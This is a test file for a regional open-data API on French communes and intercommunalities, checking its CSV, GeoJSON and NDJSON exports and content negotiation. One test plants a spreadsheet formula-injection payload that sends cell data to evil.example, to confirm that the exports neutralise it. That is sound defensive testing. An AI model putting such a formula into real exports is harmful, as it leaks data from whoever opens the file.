// Formats: CSV parses into as many rows as JSON has items, GeoJSON is RFC 7946, NDJSON one object a line;
// chosen by format= or Accept, format winning; the same filters, sort, fields and paging in each.
import t from 'tap';
import { parse } from 'csv-parse/sync';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildDatabase } from '../../src/build/database.js';
import { build, dataCopy, dataDir, editJson, json, migrationsDir, tempDir } from '../helper.js';

t.test('CSV: a header, one row per item, dotted columns, lists joined with |', async (t) => {
  const app = await build(t);
  for (const path of [
    '/v1/communes',
    '/v1/intercommunalities',
    '/v1/conventions',
    '/v1/measures',
    '/v1/funding-links',
    '/v1/intercommunalities/200072106/members?limit=500',
  ]) {
    const items = json(await app.inject(path)).data;
    const response = await app.inject(`${path}${path.includes('?') ? '&' : '?'}format=csv`);
    t.equal(response.statusCode, 200, path);
    t.match(response.headers['content-type'], /^text\/csv; charset=utf-8/);
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    t.equal(rows.length, items.length, `${path}: as many rows as items`);
  }
  const response = await app.inject('/v1/communes?format=csv');
  t.match(response.headers['content-disposition'], 'attachment; filename="communes.csv"');
  const rows = parse(response.body, { columns: true }) as Record<string, string>[];
  const bagneres = rows.find((row) => row.code === '65059')!;
  t.equal(bagneres.name, 'Bagnères-de-Bigorre');
  t.equal(bagneres['population.municipal'], '7114');
  t.equal(bagneres.postalCodes, '65200|65710');
  t.equal(bagneres['centre.longitude'], '0.133');
  t.equal(bagneres['centre.latitude'], '42.976');
  t.notOk('centre.coordinates' in bagneres, 'no coordinates pair in one cell');
  const curatedNotes = (JSON.parse(readFileSync(join(dataDir, 'communes.json'), 'utf8')) as { code: string; notes: { sources?: string[] }[] }[]).find(
    (commune) => commune.code === '65059',
  )!.notes;
  t.equal(bagneres['notes.sources'], curatedNotes.map((note) => (note.sources ?? []).join(',')).join('|'), 'lists in lists: | then ,');
  t.equal(rows.find((row) => row.code === '65025')!['centre.longitude'], '-0.096', 'a negative longitude stays a number');
  const epcis = parse((await app.inject('/v1/intercommunalities?format=csv')).body, { columns: true }) as Record<string, string>[];
  t.notOk(
    Object.keys(epcis[0]!).some((column) => column.startsWith('contour')),
    'no MultiPolygon in CSV',
  );
  t.equal(bagneres['franceServices.name'], 'France services Haute-Bigorre');
  t.equal(bagneres['links.self'], '/v1/communes/65059');
});

t.test('CSV for spreadsheets: sep and bom, and the other parameters still apply', async (t) => {
  const app = await build(t);
  const response = await app.inject('/v1/communes?format=csv&sep=;&bom=true&fields=name,population.municipal&sort=-population&populationMin=2000');
  t.ok(response.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'UTF-8 BOM');
  const rows = parse(response.body, { columns: true, delimiter: ';', bom: true }) as Record<string, string>[];
  t.strictSame(Object.keys(rows[0]!), ['code', 'name', 'population.municipal']);
  t.strictSame(
    rows.map((row) => row.name),
    ['Bagnères-de-Bigorre', 'Lannemezan', 'Vic-en-Bigorre', 'Argelès-Gazost', 'Maubourguet'],
  );
  const page = parse((await app.inject('/v1/communes?format=csv&limit=3&offset=12')).body, { columns: true });
  t.equal(page.length, 2, 'paging applies');
  const quoted = (await app.inject('/v1/intercommunalities?format=csv&fields=name&q=arros')).body;
  t.match(quoted, "CC des Coteaux du Val d'Arros");
  const tab = parse((await app.inject('/v1/measures?format=csv&sep=tab&fields=name')).body, { columns: true, delimiter: '\t' });
  t.equal(tab.length, 5);
});

t.test('GeoJSON: FeatureCollection of Points and MultiPolygons, [lon, lat]', async (t) => {
  const app = await build(t);
  const communes = await app.inject('/v1/communes?format=geojson');
  t.match(communes.headers['content-type'], /^application\/geo\+json/);
  const collection = json(communes);
  t.equal(collection.type, 'FeatureCollection');
  t.equal(collection.name, 'communes', 'a layer name');
  t.equal(collection.features.length, 14);
  for (const feature of collection.features) {
    t.equal(feature.type, 'Feature');
    t.equal(feature.geometry.type, 'Point');
    const [lon, lat] = feature.geometry.coordinates;
    t.ok(lon > -0.3 && lon < 0.7 && lat > 42.7 && lat < 43.5, `${feature.id} is in the Hautes-Pyrénées as [lon, lat]`);
    t.notOk(
      Object.keys(feature.properties).some((key) => key.startsWith('centre')),
      'the geometry is not repeated in properties',
    );
    t.equal(typeof feature.properties['population.municipal'], 'number', 'numbers as numbers');
    t.equal(typeof feature.properties['intercommunality.siren'], 'string', 'codes as strings');
    t.equal(feature.properties.code, feature.id);
  }
  const epcis = json(await app.inject('/v1/intercommunalities?format=geojson&department=64&fields=name'));
  t.equal(epcis.features.length, 1);
  t.equal(epcis.features[0].geometry.type, 'MultiPolygon');
  t.strictSame(epcis.features[0].properties, { siren: '200072106', name: 'CC Adour Madiran' });
  for (const polygon of epcis.features[0].geometry.coordinates) {
    for (const ring of polygon) t.strictSame(ring[0], ring.at(-1), 'rings are closed');
  }
  const feature = json(await app.inject('/v1/communes/65059?format=geojson'));
  t.equal(feature.type, 'Feature');
  t.strictSame(feature.geometry.coordinates, [0.133, 42.976]);
});

t.test('one item as CSV and as NDJSON', async (t) => {
  const app = await build(t);
  const csv = await app.inject('/v1/communes/65059?format=csv');
  t.equal(csv.statusCode, 200);
  t.match(csv.headers['content-type'], /^text\/csv/);
  const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
  t.equal(rows.length, 1);
  t.equal(rows[0]!.code, '65059');
  t.equal(rows[0]!['centre.longitude'], '0.133');
  const fields = parse((await app.inject('/v1/communes/65059?format=csv&fields=centre,population.municipal')).body, { columns: true });
  t.same(fields, [{ code: '65059', 'population.municipal': '7114', 'centre.longitude': '0.133', 'centre.latitude': '42.976' }]);
  const ndjson = await app.inject('/v1/communes/65059?format=ndjson');
  t.match(ndjson.headers['content-type'], /^application\/x-ndjson/);
  t.equal(ndjson.body.endsWith('\n'), true);
  t.equal(ndjson.body.trimEnd().split('\n').length, 1);
  t.same(JSON.parse(ndjson.body), json(await app.inject('/v1/communes/65059')));
  const member = parse((await app.inject('/v1/intercommunalities/200072106/members?format=csv&limit=500')).body, { columns: true }) as Record<string, string>[];
  t.equal(member.length, 72);
});

t.test('NDJSON: one JSON object a line', async (t) => {
  const app = await build(t);
  const response = await app.inject('/v1/conventions?format=ndjson&type=ort');
  t.match(response.headers['content-type'], /^application\/x-ndjson/);
  const lines = response.body.trimEnd().split('\n');
  t.equal(lines.length, 8);
  for (const line of lines) t.equal(JSON.parse(line).type, 'ort');
  t.equal(response.headers['x-total-count'], '8');
});

t.test('negotiation: Accept chooses, format wins, nothing acceptable is 406', async (t) => {
  const app = await build(t);
  const accept = (value: string, url = '/v1/communes') => app.inject({ url, headers: { accept: value } });
  t.match((await accept('text/csv')).headers['content-type'], /^text\/csv/);
  t.match((await accept('application/geo+json')).headers['content-type'], /^application\/geo\+json/);
  t.match((await accept('application/x-ndjson')).headers['content-type'], /^application\/x-ndjson/);
  t.match((await accept('*/*')).headers['content-type'], /^application\/json/);
  t.match((await accept('text/html,application/xhtml+xml,*/*;q=0.8')).headers['content-type'], /^application\/json/, 'a browser gets JSON');
  t.match((await accept('text/csv;q=0.5, application/x-ndjson')).headers['content-type'], /^application\/x-ndjson/, 'quality values');
  t.match(
    (await app.inject({ url: '/v1/communes?format=json', headers: { accept: 'text/csv' } })).headers['content-type'],
    /^application\/json/,
    'format wins',
  );
  const refused = await accept('application/geo+json', '/v1/conventions');
  t.equal(refused.statusCode, 406);
  t.match(refused.headers['content-type'], /^application\/problem\+json/);
  t.match(json(refused).detail, 'Available: application/json, text/csv, application/x-ndjson');
  t.equal((await accept('image/png', '/v1/communes/65059')).statusCode, 406);
});

t.test('a curated value starting with = stays inert in CSV, and as it is in JSON', async (t) => {
  const copy = dataCopy(t);
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
  let id = '';
  editJson(copy, 'measures.json', (measures) => {
    measures[0].description.text = formula;
    id = measures[0].id;
  });
  editJson(copy, 'communes.json', (communes) => (communes[0].notes[0].text = `@${formula}`));
  const databasePath = join(tempDir(t), 'db.sqlite');
  buildDatabase({ dataDir: copy, databasePath, migrationsDir });
  const app = await build(t, {}, databasePath);
  for (const url of ['/v1/measures?format=csv', '/downloads/measures.csv']) {
    const rows = parse((await app.inject(url)).body, { columns: true }) as Record<string, string>[];
    t.equal(rows.find((row) => row.id === id)!['description.text'], `'${formula}`, `${url}: a leading quote`);
  }
  const communes = parse((await app.inject('/downloads/communes.csv')).body, { columns: true }) as Record<string, string>[];
  t.match(communes[0]!['notes.text'], /^'@=HYPERLINK/, 'a list cell too');
  t.equal(communes[0]!['centre.longitude'], '-0.096', 'numbers untouched');
  t.equal(json(await app.inject(`/v1/measures/${id}`)).description.text, formula, 'JSON unchanged');
});

t.test('a single item as CSV and NDJSON: one row, one line, the same record as JSON', async (t) => {
  const app = await build(t);
  const item = json(await app.inject('/v1/communes/65059'));
  const csv = await app.inject('/v1/communes/65059?format=csv');
  t.equal(csv.statusCode, 200);
  t.equal(csv.headers['content-type'], 'text/csv; charset=utf-8; header=present');
  t.equal(csv.headers['content-disposition'], 'attachment; filename="communes-65059.csv"');
  t.equal(csv.body.split('\r\n').filter(Boolean).length, 2, 'a header and one row');
  const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
  t.equal(rows.length, 1);
  t.strictSame([rows[0]!.code, rows[0]!.name, rows[0]!['population.municipal'], rows[0]!.postalCodes], ['65059', 'Bagnères-de-Bigorre', '7114', '65200|65710']);
  const listRow = (parse((await app.inject('/v1/communes?code=65059&format=csv')).body, { columns: true }) as Record<string, string>[])[0];
  t.strictSame(rows[0], listRow, 'the same row as in the list');
  const fields = parse((await app.inject('/v1/communes/65059?format=csv&fields=name&sep=;')).body, { columns: true, delimiter: ';' });
  t.strictSame(fields, [{ code: '65059', name: 'Bagnères-de-Bigorre' }]);

  const ndjson = await app.inject('/v1/communes/65059?format=ndjson');
  t.equal(ndjson.statusCode, 200);
  t.equal(ndjson.headers['content-type'], 'application/x-ndjson; charset=utf-8');
  t.ok(ndjson.body.endsWith('\n'), 'a line ends with a newline');
  const lines = ndjson.body.split('\n');
  t.equal(lines.length, 2, 'one line');
  t.strictSame(JSON.parse(lines[0]!), item, 'the record as JSON');
  const accepted = await app.inject({ url: '/v1/communes/65059', headers: { accept: 'application/x-ndjson' } });
  t.equal(accepted.body, ndjson.body, 'chosen by Accept too');
});
